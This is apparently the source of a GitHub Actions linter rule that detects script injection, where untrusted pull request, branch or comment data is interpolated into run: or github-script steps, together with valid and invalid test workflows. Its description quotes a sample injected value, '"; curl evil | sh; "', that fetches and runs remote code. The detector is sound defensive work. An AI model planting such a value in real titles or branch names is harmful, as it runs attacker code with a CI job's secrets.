import type { RuleCases, WorkflowRule } from '../../types.js';
import { escapeControl } from '../../../text/escape.js';
import { workflowMeta } from '../meta.js';
import { expressions, parseUses } from '../model.js';

/**
 * Event fields a pull request, issue or comment author controls (GitHub's "untrusted input" list:
 * titles, bodies, branch names, commit messages, author names and e-mails…). Numbers, ids, SHAs and
 * the repository's own settings are not: `github.event.*` is untrusted unless it ends in one of SAFE.
 */
const SAFE =
  /\.(?:number|id|node_id|sha|head_sha|base_sha|before|after|merge_commit_sha|action|draft|merged|fork|private|default_branch|run_id|run_number|run_attempt|created_at|updated_at|additions|deletions|changed_files)$/;
const EVENT = /\bgithub\.event(?:\.[A-Za-z0-9_*-]+|\[[^\]\n]{0,200}\])+/g;
const HEAD_REF = /\bgithub\.head_ref\b/;

/** The untrusted input an expression reads, or null. */
function untrusted(expr: string): string | null {
  if (HEAD_REF.test(expr)) return 'github.head_ref';
  for (const m of expr.matchAll(EVENT)) if (!SAFE.test(m[0])) return m[0];
  return null;
}

export const rule: WorkflowRule = {
  meta: workflowMeta({
    id: 'SC4006',
    name: 'script-injection',
    principle: 'P4',
    severity: 'error',
    message: 'Untrusted event data is interpolated into a script',
    description:
      'GitHub replaces `${{ … }}` in `run:` (and in actions/github-script’s `script:`) before the shell sees it: a pull request title, branch name or comment such as `"; curl evil | sh; "` becomes code that runs with the job’s token and secrets. Pass the value through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`, then `"$TITLE"`), which the shell treats as data (GitHub Security Lab, zizmor template-injection).',
    fix: 'Move the expression to `env:` and use the variable, quoted, in the script.',
  }),
  check({ model, report }) {
    for (const s of model.steps) {
      const scripts: [string, string][] = [];
      if (s.run !== undefined) scripts.push(['run', s.run]);
      const u = s.uses ? parseUses(s.uses) : null;
      if (u?.action === 'actions/github-script' && typeof s.with.script === 'string')
        scripts.push(['script', s.with.script]);
      for (const [key, text] of scripts) {
        const bad = expressions(text)
          .map(untrusted)
          .find((x) => x !== null);
        if (bad)
          report({
            line: key === 'run' ? s.lineOf('run') : s.lineOf('with', 'script'),
            message: `${s.label}: \`${escapeControl(bad)}\` is interpolated into the script`,
          });
      }
    }
  },
};

const wf = (step: string): string => `on: pull_request
permissions: {}
jobs:
  greet:
    runs-on: ubuntu-24.04
    permissions:
      contents: read
    steps:
${step}`;

export const cases: RuleCases = {
  valid: [
    {
      name: 'through an environment variable',
      code: wf(`      - env:
          TITLE: \${{ github.event.pull_request.title }}
        run: echo "$TITLE"
`),
    },
    {
      name: 'a number and a SHA',
      code: wf(`      - run: echo "\${{ github.event.pull_request.number }} \${{ github.event.pull_request.head.sha }} \${{ github.sha }}"
`),
    },
  ],
  invalid: [
    {
      name: 'the pull request title in run',
      code: wf(`      - run: echo "\${{ github.event.pull_request.title }}"
`),
      errors: [{ rule: 'SC4006', line: 9 }],
    },
    {
      name: 'the head branch in a multi-line run',
      code: wf(`      - name: checkout branch
        run: |
          git fetch origin
          git switch "\${{ github.head_ref }}"
`),
      errors: [{ rule: 'SC4006', line: 10 }],
    },
    {
      name: 'a comment body in github-script',
      code: wf(`      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea # v7.0.1
        with:
          script: console.log("\${{ github.event.comment.body }}")
`),
      errors: [{ rule: 'SC4006', line: 11 }],
    },
  ],
};
